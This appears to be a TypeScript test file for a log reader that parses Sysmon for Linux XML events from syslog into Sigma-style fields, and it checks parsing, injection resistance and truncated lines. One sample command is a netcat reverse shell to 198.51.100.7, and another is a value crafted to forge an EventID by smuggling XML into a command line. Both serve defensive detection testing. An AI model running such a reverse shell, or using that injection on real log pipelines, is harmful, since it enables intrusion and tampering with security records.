/** Sysmon for Linux writes XML into syslog: the elements and their order are those of its outputxml.cpp. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readLines } from './reading.ts';

const HEADER = 'Nov 20 08:00:05 web01 sysmon: ';
const SYSTEM =
  '<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-20T08:00:00.467399000Z"/><EventRecordID>75097</EventRecordID><Correlation/><Execution ProcessID="1109" ThreadID="1109"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System>';
const event = (command: string): string =>
  `${HEADER}<Event>${SYSTEM}<EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-20 08:00:00.467</Data><Data Name="ProcessId">3372</Data><Data Name="Image">/usr/bin/nc</Data><Data Name="CommandLine">${command}</Data><Data Name="User">www-data</Data><Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>`;

test('a process that begins, under the names of Sigma', () => {
  const line = event('nc -e /bin/sh 198.51.100.7 4444 &amp;&amp; id');
  const [read] = readLines('syslog', [line]).events;
  assert.deepEqual(read?.logsource, { product: 'linux', service: 'sysmon', category: 'process_creation' });
  assert.equal(read?.time, Date.parse('2026-11-20T08:00:00.467Z'));
  assert.equal(read?.raw, line);
  assert.equal(read?.user, 'www-data');
  const { Image, CommandLine, ParentImage, EventID, Computer } = read?.fields ?? {};
  assert.deepEqual(
    { Image, CommandLine, ParentImage, EventID, Computer },
    {
      Image: '/usr/bin/nc',
      CommandLine: 'nc -e /bin/sh 198.51.100.7 4444 && id',
      ParentImage: '/usr/bin/bash',
      EventID: '1',
      Computer: 'web01',
    },
  );
});

test('no command line makes itself another event', () => {
  const forged = event(
    'x&lt;/Data&gt;&lt;Data Name="EventID"&gt;99&lt;/Data&gt;</Data><Data Name="EventID">99',
  );
  const [read] = readLines('syslog', [forged]).events;
  assert.equal(read?.fields.EventID, '1');
  assert.equal(read?.logsource.category, 'process_creation');
});

test('one that was cut is a message, and the next is itself', () => {
  const { events } = readLines('syslog', [event('a').slice(0, 700), event('b')]);
  assert.deepEqual(
    events.map(({ logsource, fields }) => [logsource.service, fields.CommandLine]),
    [
      ['syslog', undefined],
      ['sysmon', 'b'],
    ],
  );
});
